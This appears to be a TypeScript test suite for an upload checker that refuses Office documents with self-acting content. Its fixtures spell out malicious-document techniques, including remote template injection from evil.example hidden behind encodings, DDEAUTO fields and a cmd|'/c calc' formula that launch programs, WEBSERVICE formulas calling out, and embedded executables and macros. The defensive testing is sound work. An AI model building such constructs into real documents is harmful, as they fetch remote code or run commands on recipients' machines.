import { Refusal } from "@/lib/errors";
import { office } from "@/testing/documents";
import { zip, type ZipEntry } from "@/scripts/templates/zip";
import { mediaTypeOf } from "./content";
import { kinds } from "./kinds";
import { letGo, receiveBytes } from "./receive";

async function verdict(name: string, bytes: Buffer): Promise<string> {
  const file = await receiveBytes(bytes);
  try {
    return await mediaTypeOf(file, name);
  } catch (error) {
    if (!(error instanceof Refusal)) throw error;
    return error.code;
  } finally {
    await letGo(file);
  }
}

const part = (name: string, text: string | Buffer): ZipEntry => ({
  name,
  bytes: Buffer.from(text),
});
const transitional = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const microsoft = "http://schemas.microsoft.com/office/2006/relationships";

function relation(kind: string, target: string, mode = "", base = transitional): ZipEntry {
  const external = mode && ` TargetMode="${mode}"`;
  return part(
    "word/_rels/document.xml.rels",
    `<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="a" Type="${base}/${kind}" Target="${target}"${external}/></Relationships>`,
  );
}
const body = (inner: string) =>
  part(
    "word/document.xml",
    `<w:document xmlns:w="w" xmlns:v="v" xmlns:o="o" xmlns:r="r">${inner}</w:document>`,
  );
const field = (...runs: string[]) =>
  body(
    `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join("")}<w:fldChar w:fldCharType="end"/>`,
  );
const sheet = (formula: string) =>
  part("xl/worksheets/sheet1.xml", `<worksheet><row><c><f>${formula}</f></c></row></worksheet>`);
const slide = (inner: string) =>
  part("ppt/slides/slide1.xml", `<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r">${inner}</p:sld>`);

const main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const types = (inner = "", before = "") =>
  part(
    "[Content_Types].xml",
    `${before}<Types><Override PartName="/main.xml" ContentType="${main}"/>${inner}</Types>`,
  );
const docx = (...parts: ZipEntry[]) => office("docx", parts);
const built = (...parts: ZipEntry[]) => zip([...parts, part("main.xml", "<main/>")]);
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
const cfb = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);

/** The name in the directory and the name before the bytes differ. */
function twoNames(): Buffer {
  const bytes = docx(part("word/safe.xml", "<a/>"));
  bytes.write("word/evil", bytes.indexOf("word/safe"), "latin1");
  return bytes;
}

/** Stored in a way that only few programs can read. */
function oddMethod(): Buffer {
  const bytes = docx();
  for (let at = 0; (at = bytes.indexOf("PK\u0003\u0004", at)) >= 0; at += 4)
    bytes.writeUInt16LE(9, at + 8);
  for (let at = 0; (at = bytes.indexOf("PK\u0001\u0002", at)) >= 0; at += 4)
    bytes.writeUInt16LE(9, at + 10);
  return bytes;
}

function encrypted(): Buffer {
  const bytes = docx();
  const central = bytes.indexOf("PK\u0001\u0002");
  bytes.writeUInt16LE(0x0801, central + 8);
  return bytes;
}

describe("Office documents in which something acts by itself (D28)", () => {
  test.each<[what: string, name: string, bytes: Buffer, code: string]>([
    [
      "a remote template",
      "a.docx",
      docx(relation("attachedTemplate", "https://evil.example/a.dotm", "External")),
      "file_links",
    ],
    [
      "a remote template of the strict form",
      "a.docx",
      docx(
        relation(
          "attachedTemplate",
          "https://evil.example/a.dotm",
          "External",
          "http://purl.oclc.org/ooxml/officeDocument/relationships",
        ),
      ),
      "file_links",
    ],
    [
      "a template on a share",
      "a.docx",
      docx(relation("attachedTemplate", "file:///\\\\evil.example\\a.dotm", "External")),
      "file_links",
    ],
    [
      "a remote template, its mode in another case",
      "a.docx",
      docx(relation("attachedTemplate", "https://evil.example/a.dotm", "eXternal")),
      "file_links",
    ],
    [
      "a remote template without a mode",
      "a.docx",
      docx(relation("attachedTemplate", "https://evil.example/a.dotm")),
      "file_links",
    ],
    [
      "a remote template behind character references",
      "a.docx",
      docx(relation("attached&#84;emplate", "&#104;ttps://evil.example/a.dotm", "Ext&#101;rnal")),
      "file_links",
    ],
    [
      "a remote template in UTF-16",
      "a.docx",
      docx(
        part(
          "word/_rels/settings.xml.rels",
          utf16(
            `<Relationships><Relationship Type="${transitional}/attachedTemplate" Target="https://evil.example/" TargetMode="External"/></Relationships>`,
          ),
        ),
      ),
      "file_links",
    ],
    [
      "a remote template in UTF-16 without its mark",
      "a.docx",
      docx(
        part(
          "word/_rels/settings.xml.rels",
          utf16(
            `<Relationships><Relationship Type="${transitional}/attachedTemplate" Target="https://evil.example/" TargetMode="External"/></Relationships>`,
          ).subarray(2),
        ),
      ),
      "file_links",
    ],
    [
      "relations in another case of name",
      "a.docx",
      docx({
        ...relation("attachedTemplate", "https://evil.example/a.dotm", "External"),
        name: "Word/_RELS/Settings.XML.Rels",
      }),
      "file_links",
    ],
    [
      "relations behind an escaped name",
      "a.docx",
      docx({
        ...relation("attachedTemplate", "https://evil.example/a.dotm", "External"),
        name: "word/_rels/settings.xml.%72els",
      }),
      "file_links",
    ],
    [
      "an image from elsewhere",
      "a.docx",
      docx(relation("image", "https://evil.example/a.png", "External")),
      "file_links",
    ],
    [
      "a frame from elsewhere",
      "a.docx",
      docx(relation("frame", "https://evil.example/", "External")),
      "file_links",
    ],
    [
      "a subdocument",
      "a.docx",
      docx(relation("subDocument", "chapter.docx", "External")),
      "file_links",
    ],
    [
      "another document's part within",
      "a.docx",
      docx(relation("aFChunk", "a.html")),
      "file_objects",
    ],
    [
      "an element that takes another document in",
      "a.docx",
      docx(body('<w:altChunk r:id="a"/>')),
      "file_objects",
    ],
    [
      "a linked object",
      "a.docx",
      docx(relation("oleObject", "file:///\\\\evil.example\\a.xlsx", "External")),
      "file_links",
    ],
    [
      "an object inside",
      "a.docx",
      docx(relation("oleObject", "embeddings/oleObject1.bin")),
      "file_objects",
    ],
    [
      "an object inside, unrelated",
      "a.docx",
      docx(part("word/media/image1.png", cfb)),
      "file_objects",
    ],
    [
      "a program inside",
      "a.docx",
      docx(part("word/media/image1.png", "MZ\u0090\u0000")),
      "file_objects",
    ],
    ["a script inside", "a.docx", docx(part("word/embeddings/run.vbs", "x")), "file_objects"],
    ["an HTML page inside", "a.docx", docx(part("word/a.html", "<html/>")), "file_objects"],
    [
      "any package inside",
      "a.docx",
      docx(part("word/embeddings/package.bin", zip([part("a.exe", "MZ")]))),
      "file_objects",
    ],
    [
      "a package that is no workbook",
      "a.docx",
      docx(part("word/embeddings/a.xlsx", zip([part("a.exe", "MZ")]))),
      "file_objects",
    ],
    [
      "a workbook inside with macros",
      "a.docx",
      docx(part("word/embeddings/a.xlsx", office("xlsx", [part("xl/vbaProject.bin", cfb)]))),
      "file_macros",
    ],
    [
      "documents in documents in documents",
      "a.docx",
      docx(part("word/embeddings/a.docx", docx(part("word/embeddings/a.docx", docx())))),
      "file_objects",
    ],
    ["a control", "a.docx", docx(relation("control", "activeX/activeX1.xml")), "file_objects"],
    [
      "a control by its type",
      "a.docx",
      built(types('<Override PartName="/a.bin" ContentType="application/vnd.ms-office.activeX"/>')),
      "file_objects",
    ],
    [
      "an add-in that loads itself",
      "a.docx",
      docx(
        relation(
          "webextensiontaskpanes",
          "a.xml",
          "",
          "http://schemas.microsoft.com/office/2011/relationships",
        ),
      ),
      "file_objects",
    ],
    [
      "macros under another name",
      "a.docx",
      docx(relation("vbaProject", "media/image1.jpg", "", microsoft)),
      "file_macros",
    ],
    [
      "macros by their type, in another case",
      "a.docx",
      built(types('<Default Extension="jpg" ContentType="application/vnd.MS-office.VBAproject"/>')),
      "file_macros",
    ],
    [
      "macros behind a character reference",
      "a.docx",
      built(
        types('<Default Extension="jpg" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
      ),
      "file_macros",
    ],
    [
      "macros behind an entity",
      "a.docx",
      built(
        types(
          '<Default Extension="jpg" ContentType="application/vnd.ms-office.&v;Project"/>',
          '<!DOCTYPE Types [<!ENTITY v "vba">]>',
        ),
      ),
      "file_acts",
    ],
    [
      "a document type without entities",
      "a.docx",
      docx(part("word/a.xml", "<!DOCTYPE a><a/>")),
      "file_acts",
    ],
    [
      "an entity that nobody declared",
      "a.docx",
      docx(part("word/a.xml", "<a>&v;</a>")),
      "file_damaged",
    ],
    [
      "macros by their type in UTF-16",
      "a.docx",
      built(
        part(
          "[Content_Types].xml",
          utf16(
            `<?xml version="1.0" encoding="UTF-16"?><Types><Override PartName="/main.xml" ContentType="${main}"/><Default Extension="b" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
          ),
        ),
      ),
      "file_macros",
    ],
    [
      "an encoding that Office never writes",
      "a.docx",
      docx(part("word/a.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>')),
      "file_damaged",
    ],
    [
      "a ribbon of its own",
      "a.docx",
      docx(relation("ui/extensibility", "customUI.xml", "", microsoft)),
      "file_macros",
    ],
    [
      "macro sheets of old",
      "a.xlsx",
      office("xlsx", [relation("xlMacrosheet", "macrosheets/sheet1.xml", "", microsoft)]),
      "file_macros",
    ],
    ["two lists of parts", "a.docx", built(types(), types()), "file_damaged"],
    [
      "two lists of parts in two cases",
      "a.docx",
      built(types(), { ...types(), name: "[content_types].XML" }),
      "file_damaged",
    ],
    [
      "two parts of one name",
      "a.docx",
      docx(part("word/a.xml", "<a/>"), part("word/a.xml", "<b/>")),
      "file_damaged",
    ],
    [
      "two parts of one name in two cases",
      "a.docx",
      docx(part("word/a.xml", "<a/>"), part("word/A.xml", "<b/>")),
      "file_damaged",
    ],
    [
      "a part with two types",
      "a.docx",
      built(types(`<Override PartName="/Main.xml" ContentType="text/xml"/>`)),
      "file_damaged",
    ],
    ["a part of two names", "a.docx", twoNames(), "file_damaged"],
    ["parts packed in an odd way", "a.docx", oddMethod(), "file_damaged"],
    ["a part with a password", "a.docx", encrypted(), "file_protected"],
    [
      "a field that starts a program",
      "a.docx",
      docx(field(" DDEAUTO c:\\\\windows\\\\cmd.exe")),
      "file_links",
    ],
    ["such a field cut into runs", "a.docx", docx(field(" D", "DE", "auto cmd")), "file_links"],
    [
      "such a field within a field",
      "a.docx",
      docx(
        body(
          '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>dde cmd</w:instrText>',
        ),
      ),
      "file_links",
    ],
    [
      "such a simple field",
      "a.docx",
      docx(body('<w:fldSimple w:instr=" DDEAUTO cmd "/>')),
      "file_links",
    ],
    [
      "a field that fetches a picture",
      "a.docx",
      docx(field(' INCLUDEPICTURE "https://evil.example/a.png"')),
      "file_links",
    ],
    [
      "a drawing that fetches a picture",
      "a.docx",
      docx(body('<v:imagedata src="https://evil.example/a.png"/>')),
      "file_links",
    ],
    [
      "an SVG that fetches a picture",
      "a.docx",
      docx(
        part(
          "word/media/a.svg",
          '<svg xmlns="http://www.w3.org/2000/svg"><image href="//evil.example/a.png"/></svg>',
        ),
      ),
      "file_links",
    ],
    [
      "a template behind a link's relation",
      "a.docx",
      docx(
        part(
          "word/_rels/settings.xml.rels",
          `<Relationships><Relationship Id="a" Type="${transitional}/hyperlink" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
        ),
      ),
      "file_links",
    ],
    [
      "a picture behind a link's relation",
      "a.docx",
      docx(body('<a:blip xmlns:a="a" r:link="rId5"/>')),
      "file_links",
    ],
    [
      "an SVG whose style fetches",
      "a.docx",
      docx(
        part(
          "word/media/a.svg",
          '<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url( "https://evil.example/a.svg#b") }</style></svg>',
        ),
      ),
      "file_links",
    ],
    [
      "an SVG that imports a style",
      "a.docx",
      docx(
        part(
          "word/media/a.svg",
          '<svg xmlns="http://www.w3.org/2000/svg"><style>@im/**/port "//evil.example/a.css"</style></svg>',
        ),
      ),
      "file_links",
    ],
    [
      "an SVG whose attribute fetches",
      "a.docx",
      docx(
        part(
          "word/media/a.svg",
          '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:u\\72l(//evil.example/a)"/></svg>',
        ),
      ),
      "file_links",
    ],
    [
      "an SVG with a script",
      "a.docx",
      docx(
        part(
          "word/media/a.svg",
          '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        ),
      ),
      "file_macros",
    ],
    [
      "connections to data",
      "a.xlsx",
      office("xlsx", [relation("connections", "connections.xml")]),
      "file_links",
    ],
    [
      "a table of a query",
      "a.xlsx",
      office("xlsx", [relation("queryTable", "queryTable1.xml")]),
      "file_links",
    ],
    [
      "another workbook's values",
      "a.xlsx",
      office("xlsx", [relation("externalLinkPath", "https://evil.example/a.xlsx", "External")]),
      "file_links",
    ],
    [
      "DDE in a workbook",
      "a.xlsx",
      office("xlsx", [
        part(
          "xl/externalLinks/externalLink1.xml",
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
      ]),
      "file_links",
    ],
    [
      "an OLE link in a workbook",
      "a.xlsx",
      office("xlsx", [
        part("xl/externalLinks/externalLink1.xml", "<externalLink><oleLink/></externalLink>"),
      ]),
      "file_links",
    ],
    [
      "publishing to the web",
      "a.xlsx",
      office("xlsx", [
        part(
          "xl/worksheets/sheet1.xml",
          '<worksheet><webPublishItems><webPublishItem destinationFile="//evil/x"/></webPublishItems></worksheet>',
        ),
      ]),
      "file_links",
    ],
    [
      "a formula that asks the web",
      "a.xlsx",
      office("xlsx", [sheet('_xlfn.WEBSERVICE("https://evil.example/")')]),
      "file_links",
    ],
    [
      "a formula that fetches a picture",
      "a.xlsx",
      office("xlsx", [sheet('1+_xlfn.IMAGE("https://evil.example/")')]),
      "file_links",
    ],
    [
      "a formula that starts a program",
      "a.xlsx",
      office("xlsx", [sheet("cmd|'/c calc'!A1")]),
      "file_links",
    ],
    [
      "a format that asks the web",
      "a.xlsx",
      office("xlsx", [
        part(
          "xl/worksheets/sheet1.xml",
          '<worksheet><conditionalFormatting><cfRule><formula>_xlfn.WEBSERVICE("https://evil.example/")</formula></cfRule></conditionalFormatting></worksheet>',
        ),
      ]),
      "file_links",
    ],
    [
      "a column of a table that asks the web",
      "a.xlsx",
      office("xlsx", [
        part(
          "xl/tables/table1.xml",
          '<table><calculatedColumnFormula>_xlfn.WEBSERVICE("https://evil.example/")</calculatedColumnFormula></table>',
        ),
      ]),
      "file_links",
    ],
    [
      "a sum of a table that asks the web",
      "a.xlsx",
      office("xlsx", [
        part(
          "xl/tables/table1.xml",
          '<table><totalsRowFormula>_xlfn.WEBSERVICE("https://evil.example/")</totalsRowFormula></table>',
        ),
      ]),
      "file_links",
    ],
    [
      "a slide that starts a program on a click",
      "a.pptx",
      office("pptx", [slide('<a:hlinkClick r:id="a" action="ppaction://program"/>')]),
      "file_macros",
    ],
    [
      "a slide that acts on a look",
      "a.pptx",
      office("pptx", [slide('<a:hlinkMouseOver r:id="a"/>')]),
      "file_links",
    ],
    [
      "one endless name",
      "a.docx",
      docx(part("word/a.xml", `<a b="${"x".repeat(9_000_000)}"/>`)),
      "file_bomb",
    ],
  ])("%s is refused", async (_what, name, bytes, code) => {
    expect(await verdict(name, bytes)).toBe(code);
  });

  test.each<[what: string, name: string, bytes: Buffer]>([
    [
      "a link that waits for a click",
      "a.docx",
      docx(relation("hyperlink", "https://fine.example/", "External")),
    ],
    ["a link in a slide", "a.pptx", office("pptx", [slide('<a:hlinkClick r:id="a"/>')])],
    [
      "a template on its author's own disk",
      "a.docx",
      docx(relation("attachedTemplate", "file:///C:\\Users\\me\\Our%20letter.dotx", "External")),
    ],
    [
      "the workbook behind a chart",
      "a.docx",
      docx(part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", office("xlsx"))),
    ],
    [
      "fields of every day",
      "a.docx",
      docx(
        field(" DATE \\@ yyyy "),
        part(
          "word/footer1.xml",
          '<w:ftr xmlns:w="w"><w:fldSimple w:instr=" HYPERLINK https://fine.example "/></w:ftr>',
        ),
      ),
    ],
    [
      "formulas of every day",
      "a.xlsx",
      office("xlsx", [
        sheet('HYPERLINK("https://fine.example","a|b!")&amp;SUM(A1:A2)&amp;IMAGEX(1)'),
      ]),
    ],
    [
      "a drawing that Excel writes and no reader of XML takes",
      "a.xlsx",
      office("xlsx", [
        part("xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="v"><v:shape><br></v:shape></xml>'),
      ]),
    ],
    [
      "a document in UTF-16",
      "a.docx",
      docx(part("word/a.xml", utf16('<?xml version="1.0" encoding="UTF-16"?><a>é</a>'))),
    ],
    [
      "settings of a printer",
      "a.xlsx",
      office("xlsx", [part("xl/printerSettings/printerSettings1.bin", utf16("HP").subarray(2))]),
    ],
  ])("%s is taken", async (_what, name, bytes) => {
    expect(await verdict(name, bytes)).toBe(
      kinds[name.endsWith("docx") ? "docx" : name.endsWith("xlsx") ? "xlsx" : "pptx"],
    );
  });
});
